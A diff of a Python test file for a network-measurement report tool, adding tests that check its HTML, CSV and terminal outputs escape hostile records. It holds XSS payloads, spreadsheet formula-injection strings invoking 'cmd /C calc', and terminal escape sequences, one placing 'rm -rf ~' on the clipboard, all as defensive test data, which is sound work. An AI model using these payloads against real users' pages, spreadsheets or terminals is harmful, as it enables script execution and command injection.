@@ -2,7 +2,11 @@
 
 from __future__ import annotations
 
+import csv
+import dataclasses
 import gzip
+import html
+import io
 import json
 import os
 import re
@@ -12,6 +16,7 @@ import subprocess
 import tempfile
 import zlib
 from datetime import datetime, timedelta
+from html.parser import HTMLParser
 from pathlib import Path
 
 import duckdb
@@ -574,20 +579,25 @@ def _png_pixels(data: bytes) -> tuple[int, int, int, bytes]:
     return width, height, bpp, bytes(out)
 
 
-@pytest.mark.timeout(180)
-def test_html_renders_charts_in_headless_chromium(
-    synthetic_report: report.Report, tmp_path: Path
-) -> None:
+def _chromium() -> str:
+    """The Chromium binary; skips with a reason when there is none, fails when CI=true (the CI
+    image installs it, see .ci/run)."""
     browser = shutil.which("chromium") or shutil.which("chromium-browser")
     if browser is None:
-        pytest.skip("chromium is not installed (apt-get install chromium)")
-    page, shot = tmp_path / "report.html", tmp_path / "report.png"
-    report.write_html(synthetic_report, page)
-    # No network for the browser: an empty network namespace when we may make one (the page
-    # must need none), and Chromium's own background traffic switched off in any case.
+        reason = "chromium is not installed (apt-get install chromium)"
+        if os.environ.get("CI") == "true":
+            pytest.fail(f"CI=true but the browser test cannot run: {reason}")
+        pytest.skip(reason)
+    return browser
+
+
+def _run_chromium(browser: str, *args: str) -> subprocess.CompletedProcess[str]:
+    """Headless Chromium on a local file. No network for the browser: an empty network namespace
+    when we may make one (the page must need none), and Chromium's own background traffic
+    switched off in any case."""
     isolate = ["unshare", "--net"] if os.geteuid() == 0 and shutil.which("unshare") else []
     with tempfile.TemporaryDirectory() as profile:
-        subprocess.run(
+        return subprocess.run(
             [
                 *isolate,
                 browser,
@@ -600,14 +610,23 @@ def test_html_renders_charts_in_headless_chromium(
                 "--disable-sync",
                 "--no-first-run",
                 f"--user-data-dir={profile}",
-                f"--screenshot={shot}",
-                "--window-size=1280,1400",
-                page.as_uri(),
+                *args,
             ],
             check=False,
             capture_output=True,
+            text=True,
             timeout=120,
         )
+
+
+@pytest.mark.timeout(180)
+def test_html_renders_charts_in_headless_chromium(
+    synthetic_report: report.Report, tmp_path: Path
+) -> None:
+    browser = _chromium()
+    page, shot = tmp_path / "report.html", tmp_path / "report.png"
+    report.write_html(synthetic_report, page)
+    _run_chromium(browser, f"--screenshot={shot}", "--window-size=1280,1400", page.as_uri())
     assert shot.exists(), "chromium wrote no screenshot"
     width, height, bpp, pixels = _png_pixels(shot.read_bytes())
     assert (width, height) == (1280, 1400)
@@ -688,3 +707,250 @@ def test_our_record_with_an_empty_report_id_is_skipped_on_the_fast_path_too(
     (tmp_path / "clean.jsonl").write_text("".join(json.dumps(r) + "\n" for r in lines))
     built = build_report([tmp_path])
     assert built.rows == 1 and [s.reason for s in built.skipped] == ["record without report_id"]
+
+
+# --- issue 14: hostile records in the HTML, CSV and terminal outputs -------------------------
+
+# Each would run script if it reached the page unescaped: a script element, an event handler
+# (in an attribute or a new element), a breakout from an SVG <title>, a javascript: URL.
+XSS_SCRIPT = "<script>document.title='PWNED'</script>"
+XSS_ATTR = '"><img src=x onerror="document.documentElement.dataset.pwned=\'1\'">'
+XSS_TITLE = "</title><script>document.title='PWNED'</script>"
+XSS_SVG = "'><svg onload=\"document.documentElement.dataset.pwned='1'\">"
+XSS_JS = "javascript:document.title='PWNED'"
+XSS_PAYLOADS = (XSS_SCRIPT, XSS_ATTR, XSS_TITLE, XSS_SVG, XSS_JS)
+
+#: The elements and attributes the page is made of; anything else came from a record.
+PAGE_TAGS = {
+    "html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "span", "i",
+    "div", "svg", "text", "rect", "path", "line", "table", "tr", "th", "td", "br", "small",
+    "ul", "li",
+}  # fmt: skip
+PAGE_ATTRIBUTES = {
+    "lang", "charset", "name", "content", "class", "id", "style", "title", "xmlns", "width",
+    "height", "viewbox", "role", "aria-label", "x", "y", "x1", "y1", "x2", "y2", "text-anchor",
+    "fill", "d", "stroke",
+}  # fmt: skip
+
+
+def _hostile_series(
+    tmp_path: Path,
+    *,
+    target: str,
+    service: str,
+    asn: str,
+    cc: str,
+    method: str,
+    bad_file: str,
+    bad_time: str,
+) -> Path:
+    """One series with a change event and a gap, every record-borne field set by the caller,
+    plus a file named `bad_file` whose one line is skipped (reason quoting `bad_time`)."""
+    root = tmp_path / "hostile"
+    root.mkdir()
+    states = ["ok"] * 3 + ["blocked"] * 3 + ["gap"] + ["ok"] * 3
+    records, when = [], datetime(2024, 3, 1)
+    for state in states:
+        if state == "gap":
+            when += timedelta(hours=48)
+            continue
+        record = _record(
+            "x/y",
+            f"{when:%Y-%m-%d %H:%M:%S}",
+            state,
+            method if state == "blocked" else None,
+            asn=asn,
+            cc=cc,
+        )
+        record["input"] = target
+        record["test_name"] = service
+        record["test_keys"]["target"] = {"id": target, "service": service}
+        records.append(record)
+        when += HOUR
+    (root / "r.jsonl").write_text("".join(json.dumps(r) + "\n" for r in records))
+    bad = _record("x/y", "2024-03-01 00:00:00", "ok")
+    bad["measurement_start_time"] = bad_time
+    (root / bad_file).write_text(json.dumps(bad) + "\n")
+    return root
+
+
+def _xss_report(tmp_path: Path) -> report.Report:
+    root = _hostile_series(
+        tmp_path,
+        target="telegram/" + XSS_SCRIPT + XSS_JS,
+        service="tele" + XSS_TITLE,
+        asn="AS1" + XSS_ATTR,
+        cc=XSS_SVG,
+        method=XSS_TITLE,
+        bad_file="<img src=x onerror=document.title=1>.jsonl",
+        bad_time=XSS_ATTR,
+    )
+    built = build_report([root])
+    assert built.rows == 9 and built.skipped_total == 1
+    assert built.events and built.gaps  # every section of the page is filled
+    return built
+
+
+class _PageParser(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str | None]] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += attrs
+
+
+def test_html_escapes_hostile_records_everywhere_including_svg(tmp_path: Path) -> None:
+    built = _xss_report(tmp_path)
+    page = report.render_html(built)
+    for payload in XSS_PAYLOADS:
+        assert payload not in page
+    assert html.escape(XSS_TITLE) in page  # the method, in the SVG <title> of an event
+    assert html.escape("AS1" + XSS_ATTR) in page and html.escape(XSS_SVG) in page
+    parser = _PageParser()
+    parser.feed(page)
+    parser.close()
+    assert parser.tags <= PAGE_TAGS, parser.tags - PAGE_TAGS
+    names = {name for name, _ in parser.attributes}
+    assert names <= PAGE_ATTRIBUTES, names - PAGE_ATTRIBUTES
+    assert not re.search(r"<\s*/?\s*script", page, re.I)
+    for name, value in parser.attributes:
+        assert not (value or "").strip().lower().startswith("javascript:"), (name, value)
+
+
+@pytest.mark.timeout(240)
+def test_hostile_records_run_no_script_in_headless_chromium(tmp_path: Path) -> None:
+    browser = _chromium()
+    # the harness sees script that runs: a page that does what the payloads try to do
+    control = tmp_path / "control.html"
+    control.write_text(
+        "<!DOCTYPE html><html><head><title>probe report</title></head><body>"
+        + XSS_SCRIPT
+        + XSS_ATTR[2:]
+        + "</body></html>"
+    )
+    dom = _run_chromium(browser, "--dump-dom", control.as_uri()).stdout
+    assert "<title>PWNED</title>" in dom and 'data-pwned="1"' in dom, dom[:2000]
+    page = tmp_path / "hostile.html"
+    report.write_html(_xss_report(tmp_path), page)
+    dom = _run_chromium(browser, "--dump-dom", page.as_uri()).stdout
+    assert "<h2>Change events</h2>" in dom, dom[:2000]  # the page was loaded and dumped
+    titles = re.findall(r"<title>(.*?)</title>", dom, re.S)
+    assert titles[0] == "probe report"
+    assert "PWNED</title>" not in dom and 'data-pwned="1"' not in dom
+    lowered = dom.lower()
+    assert "<script" not in lowered and "<img" not in lowered and "<svg onload" not in lowered
+    assert not re.search(r"<[^>]*\son[a-z]+\s*=", dom)
+    # the hostile text is shown as text
+    assert "&lt;script&gt;document.title='PWNED'&lt;/script&gt;" in dom
+
+
+def test_csv_neutralises_formula_cells(tmp_path: Path) -> None:
+    formulas = {
+        "input": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
+        "probe_asn": "+1+cmd|' /C calc'!A0",
+        "probe_cc": "-2+3",
+        "service": "@SUM(1+1)*cmd|' /C calc'!A0",
+        "blocking": "\t=1+1",
+        "report_id": "\r=1+1",
+    }
+    record = _record("x/y", "2024-03-01 00:00:00", "blocked", formulas["blocking"])
+    record.update(
+        input=formulas["input"],
+        test_name=formulas["service"],
+        probe_asn=formulas["probe_asn"],
+        probe_cc=formulas["probe_cc"],
+        report_id=formulas["report_id"],
+    )
+    record["test_keys"]["target"] = {"id": formulas["input"], "service": formulas["service"]}
+    plain = _record("signal/chat", "2024-03-01 01:00:00", "ok", report_id="safe-id")
+    source = tmp_path / "in" / "r.jsonl"
+    source.parent.mkdir()
+    source.write_text(json.dumps(record) + "\n" + json.dumps(plain) + "\n")
+    built = build_report([source])
+    report.write_csv(built, tmp_path / "rows.csv")
+    with open(tmp_path / "rows.csv", newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert [r["time"] for r in rows] == ["2024-03-01 00:00:00", "2024-03-01 01:00:00"]
+    hostile, safe = rows
+    for column, value in formulas.items():
+        assert hostile[column] == "'" + value, column
+    assert hostile["status"] == "blocked" and hostile["confirmed"] == "false"
+    assert hostile["source"] == str(source)
+    # text that is no formula, and the values we write ourselves, are left alone
+    assert safe["input"] == "signal/chat" and safe["report_id"] == "safe-id"
+    assert safe["probe_asn"] == "AS44244" and safe["blocking"] == ""
+    # Parquet is typed data, not a spreadsheet: values as they were
+    report.write_parquet(built, tmp_path / "rows.parquet")
+    found = (
+        duckdb.connect()
+        .execute(
+            "SELECT input, probe_asn, report_id FROM read_parquet(?) ORDER BY time",
+            [str(tmp_path / "rows.parquet")],
+        )
+        .fetchone()
+    )
+    assert found == (formulas["input"], formulas["probe_asn"], formulas["report_id"])
+
+
+OSC52 = "\x1b]52;c;cm0gLXJmIH4K\x07"  # writes "rm -rf ~" to the clipboard
+CONTROLS = re.compile(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]")  # C0 except newline, DEL, C1
+
+
+def _terminal_report(tmp_path: Path) -> Path:
+    return _hostile_series(
+        tmp_path,
+        target="telegram/dc" + OSC52 + "one",
+        service="tele\x9d0;owned\x9cgram",  # C1 OSC: sets the window title
+        asn="AS1\x1b[2J\x1b[H",  # clears the screen
+        cc="I\x9b31mR\x1b[8m",  # C1 CSI, SGR "concealed"
+        method="tcp\r\x1b[32mok\x1b[0m\x00\x7f\x08\x07[/]",  # overwrite the line, rich markup
+        bad_file="f\x1b]0;title\x07.jsonl",
+        bad_time="\x1bP+q\x1b\\yesterday",  # a DCS string
+    )
+
+
+def _assert_no_controls(text: str) -> None:
+    assert not CONTROLS.search(text), repr(CONTROLS.findall(text))
+    for leftover in ("cm0gLXJmIH4K", "[2J", "0;owned", "]0;title"):
+        assert leftover not in text  # whole sequences are removed, not just their ESC
+    # a skip reason quotes the bad value with repr(): ESC shows as the four characters \x1b
+    assert "'\\x1bP+q\\x1b\\\\yesterday'" in text
+
+
+def test_text_output_strips_terminal_control_sequences(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    root = _terminal_report(tmp_path)
+    text = report.render_text(build_report([root]))
+    _assert_no_controls(text)
+    assert "telegram/dcone" in text and "AS1 IR" in text and "blocked/tcp ok[/]" in text
+    assert "telegram" in text and "skipped in 1 file" in text
+    code, out, err = _run_cli(["report", str(root)], capsys)  # stdout is not a terminal here
+    assert code == 0, err
+    _assert_no_controls(out)
+    assert out == text
+
+
+def test_rich_output_strips_terminal_control_sequences_and_markup(tmp_path: Path) -> None:
+    from rich.console import Console
+
+    built = build_report([_terminal_report(tmp_path)])
+    built.series[0] = dataclasses.replace(
+        built.series[0], input="[link=https://example.invalid]click[/link]"
+    )
+    stream = io.StringIO()
+    console = Console(
+        file=stream, record=True, width=250, force_terminal=True, color_system="truecolor"
+    )
+    report.print_rich(built, console)
+    plain = console.export_text(clear=False)
+    _assert_no_controls(plain)
+    assert "telegram/dcone" in plain and "AS1 IR" in plain and "blocked/tcp ok[/]" in plain
+    assert "[link=https://example.invalid]click[/link]" in plain  # text, not rich markup
+    # what reaches the terminal: rich's own colours (SGR) and nothing else
+    written = stream.getvalue()
+    assert "\x1b]8;" not in written  # no hyperlink made from a record
+    _assert_no_controls(re.sub(r"\x1b\[[0-9;]*m", "", written))
